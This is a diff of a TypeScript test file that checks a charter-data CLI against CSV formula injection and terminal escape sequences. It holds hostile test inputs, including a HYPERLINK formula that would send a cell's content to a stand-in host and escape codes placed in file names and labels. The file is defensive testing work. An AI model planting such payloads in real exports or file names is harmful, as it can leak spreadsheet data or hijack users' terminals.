@@ -6,9 +6,10 @@
  * written, a full disk). Through the real CLI.
  */
 import { spawnSync } from "node:child_process";
-import { closeSync, copyFileSync, existsSync, mkdirSync, openSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
+import { closeSync, copyFileSync, existsSync, mkdirSync, openSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
+import { csvCells, ESCAPE_LABEL, ESCAPES, FORMULAS, hostileCharterCsv, libreOfficeFormulas, liveFormulas, terminalControls } from "../scripts/lib/hostile.js";
 import { csvLines } from "../src/analysis/writers.js";
 import { BIN, cli } from "./helpers/cli.js";
 import { CORPUS } from "./helpers/gold.js";
@@ -17,62 +18,11 @@ import { tempDir } from "./helpers/tmp.js";
 const CSV_CHARTER = join(CORPUS, "c05-genova-urp-2020", "charter.csv");
 const XLSX = join(CORPUS, "c05-genova-urp-2020", "charter.xlsx");
 
-const OSC_TITLE = "\x1b]0;pwned\x07";
-const RED = "\x1b[31m";
-const CSI_CLEAR = "\u009b2J"; // the 8-bit CSI: clears the screen where a terminal reads C1
-const EVIL_LABEL = `${OSC_TITLE}Qualità ${RED}rossa\x1b[0m`;
-const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(1,1)", "=SUM(A1:A9)"];
-
-/** A CSV charter (the c05 fixture's own) whose first indicator's cells are formulas and whose labels carry escapes. */
+/** The c05 fixture's CSV charter with formulas in its cells and escapes in its labels (scripts/lib/hostile.ts). */
 function evilCharter(dir: string): string {
-  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
-  const lines = readFileSync(CSV_CHARTER, "utf8").split("\n");
-  const first = lines[7].split(";");
-  first[1] = quote(EVIL_LABEL); // the quality factor: no dimension, a review item
-  [first[2], first[3], first[4], first[6], first[7]] = FORMULAS.map(quote); // description, target, achieved, explanation, notes
-  lines[7] = first.join(";");
-  const second = lines[8].split(";");
-  second[2] = `Ore di apertura reclami ${RED}rossi\x1b[0m${CSI_CLEAR}`;
-  lines[8] = second.join(";");
   const path = join(dir, "evil.csv");
-  writeFileSync(path, lines.join("\n"));
+  writeFileSync(path, hostileCharterCsv(readFileSync(CSV_CHARTER, "utf8")));
   return path;
-}
-
-/** RFC 4180 CSV cells (the header row included). */
-function csvCells(text: string): string[] {
-  const cells: string[] = [];
-  let cell = "";
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === "," || (ch === "\r" && text[i + 1] === "\n")) {
-      cells.push(cell);
-      cell = "";
-      if (ch === "\r") i++;
-    } else cell += ch;
-  }
-  return cells;
-}
-
-/** Cells a spreadsheet would run: text starting with = + - @ tab or CR (a number is a number). */
-const live = (cells: string[]) => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));
-
-/** The formulas LibreOffice finds opening each CSV (converted to flat ODS), by file; null where soffice is not installed. */
-function libreOfficeFormulas(files: string[], dir: string): Record<string, number> | null {
-  const soffice = ["/usr/bin/soffice", "/usr/local/bin/soffice"].find((p) => existsSync(p));
-  if (!soffice) return null;
-  const out = join(dir, "lo");
-  const r = spawnSync(soffice, [`-env:UserInstallation=file://${join(dir, "lo-profile")}`, "--headless", "--convert-to", "fods", "--outdir", out, ...files], { encoding: "utf8", timeout: 120_000 });
-  if (r.status !== 0) throw new Error(`soffice failed: ${r.stderr}`);
-  const counts: Record<string, number> = {};
-  for (const f of readdirSync(out)) counts[f.replace(/\.fods$/, ".csv")] = (readFileSync(join(out, f), "utf8").match(/table:formula="/g) ?? []).length;
-  return counts;
 }
 
 describe("CSV exports that cannot attack", () => {
@@ -92,7 +42,7 @@ describe("CSV exports that cannot attack", () => {
     };
     for (const [name, text] of Object.entries(texts)) {
       const cells = csvCells(text);
-      expect(live(cells), name).toEqual([]);
+      expect(liveFormulas(cells), name).toEqual([]);
       // Every formula of the charter is there, as text.
       for (const f of FORMULAS.slice(0, name === "search" ? 1 : FORMULAS.length)) expect(cells, `${name}: ${f}`).toContain(`'${f}`);
     }
@@ -103,7 +53,7 @@ describe("CSV exports that cannot attack", () => {
     // LibreOffice opens the export with no live formula; the same file without the ' has them.
     const unsafe = join(dir, "unsafe.csv");
     writeFileSync(unsafe, texts.export.replace(/(^|,)("?)'(?=[=+\-@\t])/gm, "$1$2"));
-    expect(live(csvCells(readFileSync(unsafe, "utf8"))).length).toBeGreaterThanOrEqual(FORMULAS.length);
+    expect(liveFormulas(csvCells(readFileSync(unsafe, "utf8"))).length).toBeGreaterThanOrEqual(FORMULAS.length);
     const found = libreOfficeFormulas([exported, unsafe], dir);
     if (!found) return ctx.skip("LibreOffice (soffice) is not installed: the bytes were checked, not a spreadsheet's reading of them");
     expect(found["unsafe.csv"]).toBeGreaterThan(0);
@@ -120,8 +70,6 @@ describe("CSV exports that cannot attack", () => {
   });
 });
 
-/** Whether a text holds a byte a terminal obeys: C0 but tab and line feed, DEL, C1. */
-const controls = (s: string) => s.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];
 
 describe("terminals", () => {
   it("get no control character from the data: the import's text log and summary, review, alias, search, inspect, errors", () => {
@@ -130,19 +78,19 @@ describe("terminals", () => {
     mkdirSync(root);
     const charter = evilCharter(dir);
     copyFileSync(charter, join(root, "evil.csv"));
-    copyFileSync(XLSX, join(root, `carta-${OSC_TITLE}.xlsx`));
-    writeFileSync(join(root, `rotto-${RED}.pdf`), "%PDF-1.4 not really");
+    copyFileSync(XLSX, join(root, `carta-${ESCAPES.title}.xlsx`));
+    writeFileSync(join(root, `rotto-${ESCAPES.red}.pdf`), "%PDF-1.4 not really");
     const db = join(dir, "c.sqlite");
     const outputs: Record<string, { stdout: string; stderr: string }> = {
       import: cli(["import", root, "--db", db, "--log-format", "text"]),
       review: cli(["review", "--db", db]),
       reviewJson: cli(["review", "--db", db, "--format", "jsonl"]),
-      alias: cli(["alias", "dimension", EVIL_LABEL, "equita", "--db", db]),
+      alias: cli(["alias", "dimension", ESCAPE_LABEL, "equita", "--db", db]),
       aliasList: cli(["alias", "--list", "--db", db]),
-      aliasError: cli(["alias", "--remove", "dimension", `${OSC_TITLE}Altro`, "--db", db]),
+      aliasError: cli(["alias", "--remove", "dimension", `${ESCAPES.title}Altro`, "--db", db]),
       search: cli(["search", "reclami", "--db", db]),
       inspect: cli(["inspect", charter, "--table"]),
-      inspectError: cli(["inspect", join(root, `rotto-${RED}.pdf`)]),
+      inspectError: cli(["inspect", join(root, `rotto-${ESCAPES.red}.pdf`)]),
     };
     expect(outputs.import.stdout).toContain("carta-\\x1b]0;pwned\\x07.xlsx: new");
     expect(outputs.import.stdout).toContain("rotto-\\x1b[31m.pdf: FAILED");
@@ -151,14 +99,14 @@ describe("terminals", () => {
     expect(outputs.aliasError.stderr).toContain("\\x1b]0;pwned\\x07Altro");
     expect(outputs.search.stdout).toContain("\\x1b[31mrossi\\x1b[0m\\x9b"); // the cell is cut at 40 characters
     for (const [name, o] of Object.entries(outputs).filter(([n]) => n !== "reviewJson")) {
-      expect(controls(o.stdout), `${name} stdout`).toEqual([]);
-      expect(controls(o.stderr), `${name} stderr`).toEqual([]);
+      expect(terminalControls(o.stdout), `${name} stdout`).toEqual([]);
+      expect(terminalControls(o.stderr), `${name} stderr`).toEqual([]);
     }
     // JSON keeps the data exact.
     const jsonl = outputs.reviewJson.stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l));
-    expect(jsonl.filter((l) => l.type === "label").map((l) => l.label)).toContain(EVIL_LABEL);
+    expect(jsonl.filter((l) => l.type === "label").map((l) => l.label)).toContain(ESCAPE_LABEL);
     const list = cli(["alias", "--list", "--format", "jsonl", "--db", db]).stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l).label);
-    expect(list).toEqual([EVIL_LABEL]);
+    expect(list).toEqual([ESCAPE_LABEL]);
   });
 });
 
